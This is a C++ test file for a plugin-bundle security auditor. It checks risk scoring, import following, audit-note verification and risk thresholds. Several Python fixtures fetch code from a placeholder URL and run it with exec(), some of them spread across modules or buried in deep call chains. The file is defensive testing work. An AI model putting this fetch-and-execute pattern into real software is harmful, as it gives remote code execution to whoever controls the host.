#include "trust/audit/bundle_audit.h"

#include "trust/signatures/test_bundles.h"

namespace pilothouse::audit {
namespace {

using trust::AuditNote;
using trust::Code;
using trust::Files;

// Fetches code over the network and executes it, as a plugin.
const Files kRisky{
    {"watch.py",
     "import urllib3\n\n\n"
     "class Watch:\n"
     "    def start(self, scheduler):\n"
     "        answer = urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py')\n"
     "        exec(answer.data)\n"}};
const Files kPlain{{"watch.py", "class Watch:\n    def start(self, scheduler):\n        self.seen = 0\n"}};

TEST(BundleAudit, RatesARiskyPluginHighAndAPlainOneLow) {
  const auto risky = audit_files(kRisky, "night-watch");
  ASSERT_TRUE(risky) << risky.error().message;
  EXPECT_GT(risky->whole.security_risk.value, 0.7);
  const auto plain = audit_files(kPlain, "night-watch");
  ASSERT_TRUE(plain) << plain.error().message;
  EXPECT_LT(plain->whole.security_risk.value, 0.3);
  EXPECT_EQ(plain->analysis.kind, "bundle");
}

TEST(BundleAudit, GivesTheSameReportForTheSameFiles) {
  const auto once = audit_files(kRisky, "night-watch");
  const auto again = audit_files(kRisky, "night-watch");
  ASSERT_TRUE(once && again);
  EXPECT_EQ(to_json(*once), to_json(*again));
  EXPECT_EQ(note_of(*once), note_of(*again));
  EXPECT_EQ(once->rules, rules_digest().value());
}

TEST(BundleAudit, TellsWhetherANoteAgrees) {
  const AuditNote found{"report", "rules", 10};
  EXPECT_EQ(compare(std::nullopt, found), Agreement::kUnsaid);
  EXPECT_EQ(compare(found, found), Agreement::kSame);
  EXPECT_EQ(compare(AuditNote{"report", "others", 10}, found), Agreement::kOtherRules);
  EXPECT_EQ(compare(AuditNote{"other", "rules", 10}, found), Agreement::kDiffers);
  EXPECT_EQ(compare(AuditNote{"report", "rules", 9}, found), Agreement::kDiffers);
}

TEST(BundleAudit, RefusesANoteThatTheSameRulesContradict) {
  const auto report = audit_files(kRisky, "night-watch");
  ASSERT_TRUE(report) << report.error().message;
  trust::Manifest manifest;
  EXPECT_TRUE(check_note(manifest, *report));
  manifest.audit = note_of(*report);
  EXPECT_TRUE(check_note(manifest, *report));
  manifest.audit->risk = 0;
  EXPECT_EQ(check_note(manifest, *report).error().code, Code::kAuditMismatch);
  manifest.audit->rules = trust::sha256_hex("other rules");
  EXPECT_TRUE(check_note(manifest, *report));
}

TEST(BundleAudit, RefusesWhatIsOverTheHighestRisk) {
  Report report;
  report.whole.security_risk.value = 0.7;
  EXPECT_TRUE(check_risk(report, 0.7));
  EXPECT_TRUE(check_risk(report, 1.0));
  EXPECT_EQ(check_risk(report, 0.69).error().code, Code::kTooRisky);
  EXPECT_EQ(check_risk(report, 0.0).error().code, Code::kTooRisky);
}

TEST(BundleAudit, RefusesWhatIsNotReadWhole) {
  Report unread;
  unread.analysis.unread.push_back({"watch.py", 3, "has syntax that is not Python's"});
  EXPECT_EQ(check_risk(unread, 0.7).error().code, Code::kTooRisky);
  EXPECT_TRUE(check_risk(unread, 1.0));
  Report exhausted;
  exhausted.analysis.modules.emplace_back().exhausted = true;
  EXPECT_EQ(check_risk(exhausted, 0.7).error().code, Code::kTooRisky);
}

// The modules of a bundle form one package, whatever their directories are.
TEST(BundleAudit, FollowsWhatModulesImportFromOneAnother) {
  const std::string fetch =
      "import urllib3\n\n\n"
      "def fetch():\n"
      "    return urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py').data\n";
  const auto risk = [](const Files& files) {
    const auto report = audit_files(files, "night-watch");
    EXPECT_TRUE(report);
    return report ? report->whole.security_risk.value : 0;
  };
  const auto watch = [](const std::string& import, const std::string& call) {
    return import + "\n\n\nclass Watch:\n    def start(self, scheduler):\n        exec(" + call + ")\n";
  };
  EXPECT_GT(risk({{"watch.py", watch("from .parts import fetch", "fetch()")}, {"parts.py", fetch}}), 0.7);
  EXPECT_GT(risk({{"watch.py", watch("from . import parts", "parts.fetch()")}, {"parts.py", fetch}}), 0.7);
  EXPECT_GT(risk({{"watch.py", watch("from .deep.parts import fetch", "fetch()")}, {"deep/parts.py", fetch}}),
            0.7);
  EXPECT_GT(risk({{"watch.py", watch("from .deep import parts", "parts.fetch()")},
                  {"deep/__init__.py", ""},
                  {"deep/parts.py", fetch}}),
            0.7);
  EXPECT_GT(risk({{"a/watch.py", watch("from ..b.parts import fetch", "fetch()")}, {"b/parts.py", fetch}}),
            0.7);
}

// `import urllib3` is never a bundle's own urllib3.py.
TEST(BundleAudit, IsNotDeceivedByModulesThatAreCalledLikeOthers) {
  Files files = kRisky;
  files["urllib3.py"] =
      "class PoolManager:\n    def request(self, method, url):\n        return self\n\n    data = '1'\n";
  const auto report = audit_files(files, "night-watch");
  ASSERT_TRUE(report);
  EXPECT_GT(report->whole.security_risk.value, 0.7);
}

// Python runs what is nested this deeply; the auditor does not look so far, and says so.
TEST(BundleAudit, IsNotSureOfWhatIsNestedTooDeeply) {
  std::string attributes, negations, branches = "if a:\n  b\n";
  for (int i = 0; i < 900; ++i) {
    attributes += ".a";
    negations += "-";
  }
  for (int i = 0; i < 70'000; ++i) branches += "elif a:\n  b\n";
  std::string calls = "import urllib3\ndef f0(x):\n  exec(x)\n";
  for (int i = 1; i < 400; ++i) {
    calls += "def f" + std::to_string(i) + "(x):\n  f" + std::to_string(i - 1) + "(x)\n";
  }
  calls += "f399(urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py').data)\n";
  for (const std::string& source :
       {"x = exec(y)" + attributes + "\n", "x = " + negations + "exec(y)\n", branches, calls}) {
    const auto report = audit_files({{"watch.py", source}}, "night-watch");
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(check_risk(*report, 0.7).error().code, Code::kTooRisky);
  }
}

// A parser that counts children with 16 bits writes over others' memory.
TEST(BundleAudit, TakesAnyNumberOfBrothers) {
  std::string brackets = "x = ", comments;
  for (int i = 0; i < 70'000; ++i) {
    brackets += "(";
    comments += "#\n";
  }
  EXPECT_TRUE(audit_files({{"watch.py", brackets}}, "night-watch"));
  EXPECT_TRUE(audit_files({{"watch.py", comments}}, "night-watch"));
}

// By the rules of whoever verifies: what the manifest says of the risk is not believed.
TEST(BundleAudit, ExaminesTheFilesThatWereVerified) {
  const trust::PrivateKey key = trust::key('a');
  trust::Policy policy;
  policy.name = "night-watch";
  policy.keys = {key.public_key()};
  policy.examine = risk_examiner(0.5);
  const auto verify = [&](const Files& files, const std::optional<AuditNote>& note) {
    const auto bundle = trust::bundle_by(
        {&key}, [&](trust::Manifest& manifest) { manifest.audit = note; }, files);
    const auto verified = trust::verify(bundle, policy, {}, std::nullopt, trust::kMade);
    return verified ? std::nullopt : std::optional(verified.error().code);
  };
  EXPECT_EQ(verify(kPlain, std::nullopt), std::nullopt);
  EXPECT_EQ(verify(kRisky, std::nullopt), Code::kTooRisky);
  EXPECT_EQ(verify(kRisky, AuditNote{trust::sha256_hex("report"), trust::sha256_hex("their rules"), 0}),
            Code::kTooRisky);
  EXPECT_EQ(verify(kPlain, AuditNote{trust::sha256_hex("report"), rules_digest().value(), 0}),
            Code::kAuditMismatch);
  policy.examine = risk_examiner(1.0);
  EXPECT_EQ(verify(kRisky, std::nullopt), std::nullopt);
}

}  // namespace
}  // namespace pilothouse::audit
